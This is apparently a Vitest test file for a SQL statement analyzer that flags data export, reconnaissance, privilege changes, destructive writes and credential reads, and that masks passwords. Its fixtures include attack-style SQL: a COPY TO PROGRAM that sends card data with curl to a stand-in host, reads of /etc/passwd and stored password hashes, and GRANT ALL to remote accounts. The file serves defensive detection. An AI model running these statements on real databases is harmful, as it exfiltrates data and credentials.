import { describe, expect, it } from 'vitest';
import { qualify, SqlAnalyzer } from '../../src/parsers/sql/analyze.js';
import { fingerprintText } from '../../src/parsers/sql/fingerprint.js';
import { maskPasswords } from '../../src/parsers/sql/mask.js';
import { oneLineSql } from '../../src/parsers/dbquery/statement.js';

const pg = () => new SqlAnalyzer('pg');
const my = () => new SqlAnalyzer('mysql');

/** The facts of one statement, tables qualified as events show them. */
function facts(a: SqlAnalyzer, sql: string, db: string | null = null) {
  const r = a.analyze(sql);
  const f = r.facts;
  return {
    type: f.type,
    verb: f.verb,
    read: qualify(f.reads, a.dialect, db),
    written: qualify(f.writes, a.dialect, db),
    unfiltered: f.unfiltered,
    exports: f.exports,
    recon: f.catalogRecon,
    priv: f.privilegeChange,
    destructive: f.destructive,
    parser: r.parser,
  };
}

describe('what a PostgreSQL statement touches', () => {
  const cases: [string, Partial<ReturnType<typeof facts>>][] = [
    ['SELECT * FROM users WHERE id = 1', { type: 'select', read: ['public.users'], unfiltered: false }],
    ['SELECT * FROM Users u JOIN "Orders" o ON o.uid = u.id', { read: ['public.users', 'public.Orders'], unfiltered: true }],
    ['SELECT count(*) FROM orders', { read: ['public.orders'], unfiltered: false }],
    ['SELECT * FROM orders LIMIT 10', { unfiltered: false }],
    ['SELECT * FROM (SELECT * FROM secrets) s', { read: ['public.secrets'], unfiltered: true }],
    ['WITH x AS (SELECT id FROM t1) DELETE FROM test WHERE col1 IN (SELECT id FROM x)', { type: 'delete', verb: 'DELETE', read: ['public.t1'], written: ['public.test'], destructive: false }],
    ['INSERT INTO s.cats(name) SELECT name FROM public.dogs', { type: 'insert', read: ['public.dogs'], written: ['s.cats'] }],
    ['UPDATE accounts SET balance = 0', { type: 'update', written: ['public.accounts'], destructive: true }],
    ['DELETE FROM sessions', { type: 'delete', destructive: true }],
    ['TRUNCATE audit_log, events', { type: 'ddl', verb: 'TRUNCATE', written: ['public.audit_log', 'public.events'], destructive: true }],
    ['DROP TABLE IF EXISTS a, b CASCADE', { type: 'ddl', verb: 'DROP TABLE', written: ['public.a', 'public.b'], destructive: true }],
    ['ALTER TABLE ONLY public.t DROP COLUMN ssn', { type: 'ddl', written: ['public.t'], destructive: true }],
    ['CREATE INDEX CONCURRENTLY idx ON orders (customer_id)', { type: 'ddl', verb: 'CREATE INDEX', written: ['public.orders'] }],
    ["COPY country TO STDOUT (DELIMITER '|')", { type: 'copy', verb: 'COPY TO', read: ['public.country'], exports: ['copy_to_stdout'], unfiltered: true }],
    ["COPY (SELECT * FROM cards) TO PROGRAM 'curl -T - https://x.example'", { exports: ['copy_to_program'], read: ['public.cards'] }],
    ["COPY country FROM '/tmp/country_data'", { verb: 'COPY FROM', written: ['public.country'], read: [], exports: [] }],
    ["SELECT pg_read_file('/etc/passwd'), lo_export(16401, '/tmp/x')", { exports: ['pg_read_file', 'lo_export'] }],
    ['SELECT version(), current_user', { recon: true }],
    ["CREATE ROLE pgsync LOGIN SUPERUSER PASSWORD 'x'", { type: 'dcl', verb: 'CREATE ROLE', priv: true }],
    ["ALTER USER bob WITH PASSWORD 'x'", { type: 'dcl', verb: 'ALTER USER', priv: true }],
    ['GRANT pg_read_server_files TO reporting', { type: 'dcl', priv: true }],
    ['REVOKE SELECT ON t FROM bob', { type: 'dcl', read: [], written: [] }],
    ['BEGIN; SELECT * FROM t; COMMIT', { type: 'select', read: ['public.t'] }],
    ['DECLARE c CURSOR FOR SELECT * FROM test', { type: 'select', verb: 'DECLARE CURSOR', read: ['public.test'] }],
    ['SELECT n.nspname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace', { read: ['pg_catalog.pg_class', 'pg_catalog.pg_namespace'], recon: true, unfiltered: false }],
    ['SELECT rolname, rolpassword FROM pg_authid', { recon: true }],
    ["SELECT extract(year FROM created_at), substring(name FROM 2) FROM t WHERE id = 1", { read: ['public.t'] }],
    ['SELECT * FROM generate_series(1, 10)', { read: [] }],
    ['SHOW server_version', { type: 'other', verb: 'SHOW SERVER_VERSION', recon: true }],
    ['SHOW search_path', { recon: false }],
  ];
  for (const [sql, want] of cases) {
    it(sql, () => expect(facts(pg(), sql)).toMatchObject(want));
  }

  it('flags reads of stored password hashes', () => {
    expect(pg().analyze('SELECT rolname, rolpassword FROM pg_authid').facts.credentialRead).toBe(true);
    expect(my().analyze('SELECT User, authentication_string FROM mysql.user').facts.credentialRead).toBe(true);
    expect(pg().analyze('SELECT * FROM app.user').facts.credentialRead).toBe(false);
  });
});

describe('what a MySQL statement touches', () => {
  const cases: [string, Partial<ReturnType<typeof facts>>][] = [
    ['SELECT * FROM `Orders` o JOIN customers c ON c.id = o.cid', { read: ['shop.Orders', 'shop.customers'], unfiltered: true }],
    ["SELECT * FROM wp_users INTO OUTFILE '/tmp/u.txt'", { exports: ['into_outfile'], unfiltered: true }],
    ['SELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`', { exports: ['mysqldump_query'] }],
    ["SELECT LOAD_FILE('/etc/passwd')", { exports: ['load_file'] }],
    ['SELECT @@version, @@datadir', { recon: true }],
    ['SHOW GRANTS FOR CURRENT_USER()', { verb: 'SHOW GRANTS', recon: true }],
    ['SHOW WARNINGS', { recon: false }],
    ['DESCRIBE wp_users', { verb: 'DESCRIBE', recon: true }],
    ["GRANT ALL PRIVILEGES ON *.* TO 'wpbackup'@'%' WITH GRANT OPTION", { type: 'dcl', priv: true }],
    ["SET PASSWORD FOR 'ops'@'%' = PASSWORD('x')", { type: 'dcl', verb: 'SET PASSWORD', priv: true }],
    ["LOAD DATA LOCAL INFILE '/tmp/foo.txt' INTO TABLE `foo`", { type: 'insert', written: ['shop.foo'] }],
    ['DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id', { type: 'delete', written: ['shop.t1'], read: ['shop.t2'] }],
    ['update db2.tuning n inner join db1.gonzo a using(gonzo) set n.c = a.c', { written: ['db2.tuning'], read: ['db1.gonzo'], destructive: true }],
    ['INSERT `foo` VALUES("bar")', { written: ['shop.foo'] }],
    ['SELECT id FROM t WHERE id=?', { read: ['shop.t'] }],
  ];
  for (const [sql, want] of cases) {
    it(sql, () => expect(facts(my(), sql, 'shop')).toMatchObject(want));
  }

  it('names the accounts of each account statement, not those of the first statement of its shape', () => {
    const a = my();
    expect(a.analyze("GRANT ALL ON *.* TO 'root'@'%'").facts.accounts).toEqual(['root@%']);
    expect(a.analyze("GRANT ALL ON *.* TO 'eve'@'10.0.0.1'").facts.accounts).toEqual(['eve@10.0.0.1']);
  });

  it('leaves names unqualified when the session database is unknown', () => {
    expect(facts(my(), 'SELECT * FROM t').read).toEqual(['t']);
  });
});

describe('SQL no parser accepts', () => {
  it('is kept and classified by its tokens', () => {
    const a = pg();
    for (const sql of ['SELEKT * FRM users', "SELECT * FROM users WHERE name = 'unterminated", 'DROP TABLE orders; @@@ ###', 'ALTER ROLE x SET pgaudit.log = \'ddl, ROLE\'']) {
      const r = a.analyze(sql);
      expect(r.parser).toBe('tokens');
    }
    expect(facts(a, 'DROP TABLE orders; @@@ ###')).toMatchObject({ type: 'ddl', destructive: true, written: ['public.orders'] });
    expect(facts(a, "SELECT * FROM users WHERE name = 'unterminated")).toMatchObject({ type: 'select', read: ['public.users'] });
  });

  it('does not hand malformed nesting to node-sql-parser, whose grammar is exponential on it', () => {
    const t = performance.now();
    const r = pg().analyze('SELECT ' + '('.repeat(40) + '1');
    expect(performance.now() - t).toBeLessThan(500);
    expect(r.parser).toBe('tokens');
  });
});

describe('fingerprints', () => {
  it('are the same for any literal values and differ for any name', () => {
    expect(fingerprintText("SELECT * FROM t WHERE id = 1 AND n = 'a'", 'pg')).toBe(fingerprintText("SELECT * FROM t WHERE id = 42 AND n = 'it''s'", 'pg'));
    expect(fingerprintText('SELECT * FROM t WHERE id IN (1, 2, 3)', 'pg')).toBe(fingerprintText('SELECT * FROM t WHERE id IN (7)', 'pg'));
    expect(fingerprintText('INSERT INTO t VALUES (1, 2), (3, 4)', 'mysql')).toBe(fingerprintText("INSERT INTO t VALUES (5, 'x')", 'mysql'));
    expect(fingerprintText('SELECT * FROM "t 1"', 'pg')).not.toBe(fingerprintText('SELECT * FROM "t 2"', 'pg'));
    expect(fingerprintText('SELECT * FROM `t1`', 'mysql')).not.toBe(fingerprintText('SELECT * FROM `t2`', 'mysql'));
    // A quote inside a comment does not swallow the statement.
    expect(fingerprintText("SELECT * FROM a /* it's */ WHERE x = 'b'", 'pg')).toBe('SELECT * FROM a WHERE x =');
    expect(fingerprintText("SELECT E'it\\'s' FROM t1", 'pg')).not.toBe(fingerprintText("SELECT E'it\\'s' FROM t2", 'pg'));
    // mysqldump's executable comment stays: it is SQL.
    expect(fingerprintText('SELECT /*!40001 SQL_NO_CACHE */ * FROM `c`', 'mysql')).toContain('SQL_NO_CACHE');
  });

  it('let the analysis of a repeated statement come from the cache', () => {
    const a = pg();
    for (let i = 0; i < 1000; i++) a.analyze(`SELECT * FROM t WHERE id = ${i}`);
    expect(a.summary()).toMatchObject({ statements: 1000, distinct: 1 });
  });
});

describe('password masking in summaries', () => {
  const cases: [string, string][] = [
    ["CREATE ROLE x LOGIN PASSWORD 'Winter2026!'", "CREATE ROLE x LOGIN PASSWORD '***'"],
    ["ALTER USER x WITH ENCRYPTED PASSWORD 'md5abc'", "ALTER USER x WITH ENCRYPTED PASSWORD '***'"],
    ["ALTER USER x encrypted /* c */PASSWORD\n/* c */ 'md5abc' LOGIN", "ALTER USER x encrypted /* c */PASSWORD\n/* c */ '***' LOGIN"],
    ["CREATE USER 'a'@'%' IDENTIFIED BY 'S3cure!pass'", "CREATE USER 'a'@'%' IDENTIFIED BY '***'"],
    ["ALTER USER 'a'@'%' IDENTIFIED WITH mysql_native_password BY 'pw'", "ALTER USER 'a'@'%' IDENTIFIED WITH mysql_native_password BY '***'"],
    ["SET PASSWORD FOR 'ops'@'%' = PASSWORD('hunter2')", "SET PASSWORD FOR 'ops'@'%' = PASSWORD('***')"],
    ["SET PASSWORD = 'hunter2'", "SET PASSWORD = '***'"],
    ["SELECT dblink_connect('host=10.0.0.1 user=x password=s3cret dbname=y')", "SELECT dblink_connect('host=10.0.0.1 user=x password=*** dbname=y')"],
    ["CREATE ROLE x PASSWORD 'unterminated", "CREATE ROLE x PASSWORD '***'"],
    ['SELECT 1', 'SELECT 1'],
  ];
  for (const [sql, masked] of cases) {
    it(sql.replace(/\n/g, ' '), () => expect(maskPasswords(sql)).toBe(masked));
  }

  it('puts the statement on one line, masked and cut', () => {
    expect(oneLineSql("CREATE ROLE x\n\tPASSWORD 'p'")).toBe("CREATE ROLE x PASSWORD '***'");
    expect(oneLineSql('SELECT ' + 'x, '.repeat(500) + '1')).toMatch(/…$/);
  });
});
